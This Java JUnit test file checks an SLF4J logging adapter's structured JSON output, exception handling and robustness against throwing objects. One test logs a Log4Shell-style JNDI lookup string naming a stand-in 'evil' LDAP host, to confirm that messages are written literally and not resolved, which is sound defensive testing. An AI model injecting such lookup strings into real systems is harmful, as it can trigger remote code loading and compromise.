package dev.observa.logging;

import static dev.observa.log.Field.field;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import com.fasterxml.jackson.databind.JsonNode;
import dev.observa.Observa;
import dev.observa.log.Field;
import dev.observa.log.Level;
import dev.observa.log.Logger;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class Slf4jLoggingTest {
  private final Observa obs = Observa.builder().noDiscovery().serviceName("my-app").logging(Slf4jLogging.create())
      .buildAndSetGlobal();
  private final CapturedLines captured = new CapturedLines();

  @AfterEach
  void close() {
    captured.close();
    obs.close();
  }

  @Test
  void zapStyleTypedFieldsBecomeTopLevelJsonFields() throws Exception {
    Logger log = obs.logger("my-app");
    log.info("failed to fetch URL", field("url", "http://example.com"), field("attempt", 3),
        field("backoff", Duration.ofSeconds(1)), field("ratio", 0.25), field("cached", false),
        field("at", Instant.parse("2026-11-24T00:00:00Z")), field("tags", List.of("a", "b")),
        field("meta", Map.of("k", 1L)));
    JsonNode line = captured.lines().get(0);
    assertThat(line.path("scope.name").asText()).isEqualTo("my-app");
    assertThat(line.path("service.name").asText()).isEqualTo("my-app");
    assertThat(line.path("url").asText()).isEqualTo("http://example.com");
    assertThat(line.path("attempt").asLong()).isEqualTo(3);
    assertThat(line.path("attempt").isIntegralNumber()).isTrue();
    assertThat(line.path("backoff").asText()).isEqualTo("PT1S");
    assertThat(line.path("ratio").asDouble()).isEqualTo(0.25);
    assertThat(line.path("cached").isBoolean()).isTrue();
    assertThat(line.path("at").asText()).isEqualTo("2026-11-24T00:00:00Z");
    assertThat(line.path("tags").size()).isEqualTo(2);
    assertThat(line.path("meta").path("k").asLong()).isEqualTo(1);
  }

  @Test
  void namedAndWithBuildHierarchicalLoggersCarryingFields() throws Exception {
    Logger db = obs.logger("my-app").named("db").with(field("pool", "primary"));
    db.warn("slow query", field("millis", 1200));
    JsonNode line = captured.lines().get(0);
    assertThat(db.name()).isEqualTo("my-app.db");
    assertThat(line.path("scope.name").asText()).isEqualTo("my-app.db");
    assertThat(line.path("severity_text").asText()).isEqualTo("WARN");
    assertThat(line.path("pool").asText()).isEqualTo("primary");
    assertThat(line.path("millis").asLong()).isEqualTo(1200);
  }

  @Test
  void errorFieldBecomesTheEventCause() throws Exception {
    obs.logger("my-app").error("boom", Field.error(new IllegalArgumentException("bad input")));
    JsonNode line = captured.lines().get(0);
    assertThat(line.path("exception.type").asText()).isEqualTo("java.lang.IllegalArgumentException");
    assertThat(line.path("exception.stacktrace").asText()).contains("Slf4jLoggingTest");
  }

  @Test
  void levelsFollowTheSlf4jConfiguration() {
    Logger log = obs.logger("my-app");
    assertThat(log.isEnabled(Level.DEBUG)).isTrue();
    assertThat(log.isEnabled(Level.TRACE)).isFalse();
    assertThat(log.isEnabled(null)).isFalse();
  }

  @Test
  void hostileFieldValuesNeverReachTheCaller() throws Exception {
    Object hostile = new Object() {
      @Override
      public String toString() {
        throw new IllegalStateException("nope");
      }
    };
    assertThatCode(() -> obs.logger("my-app").info("still logged", Field.any("hostile", hostile), null,
        field(null, "v"))).doesNotThrowAnyException();
    JsonNode line = captured.lines().get(0);
    assertThat(line.path("body").asText()).isEqualTo("still logged");
    assertThat(line.path("hostile").asText()).contains("toString() failed");
    assertThat(line.path("null").asText()).isEqualTo("v");
  }

  @Test
  void messagesAreWrittenLiterallyWithoutLookupsOrPlaceholders() throws Exception {
    obs.logger("my-app").info("${jndi:ldap://evil/x} and {} stay as written");
    assertThat(captured.lines().get(0).path("body").asText()).isEqualTo("${jndi:ldap://evil/x} and {} stay as written");
  }

  @Test
  void aCauseChainThousandsDeepIsLoggedBoundedInsteadOfOverflowingTheCallersStack() throws Exception {
    Throwable deep = new IllegalStateException("root cause");
    for (int i = 0; i < 5000; i++) {
      deep = new RuntimeException("level " + i, deep);
    }
    Throwable chain = deep;
    assertThatCode(() -> obs.logger("my-app").error("deep", Field.error(chain))).doesNotThrowAnyException();
    JsonNode line = captured.lines().get(0);
    assertThat(line.path("body").asText()).isEqualTo("deep");
    assertThat(line.path("exception.type").asText()).isEqualTo("java.lang.RuntimeException");
    assertThat(line.path("exception.message").asText()).isEqualTo("level 4999");
    assertThat(line.path("exception.stacktrace").asText()).contains("Caused by: java.lang.RuntimeException: level 4998");
  }

  @Test
  void anExceptionWhoseGetMessageThrowsIsLoggedWithAMarker() throws Exception {
    Exception hostile = new IllegalStateException() {
      @Override
      public String getMessage() {
        throw new UnsupportedOperationException("no message for you");
      }
    };
    assertThatCode(() -> obs.logger("my-app").error("hostile", Field.error(hostile), field("other", hostile)))
        .doesNotThrowAnyException();
    JsonNode line = captured.lines().get(0);
    assertThat(line.path("body").asText()).isEqualTo("hostile");
    assertThat(line.path("exception.type").asText()).startsWith(Slf4jLoggingTest.class.getName());
    assertThat(line.path("exception.message").asText()).contains("getMessage() failed");
    assertThat(line.path("other").path("message").asText()).contains("getMessage() failed");
  }
}
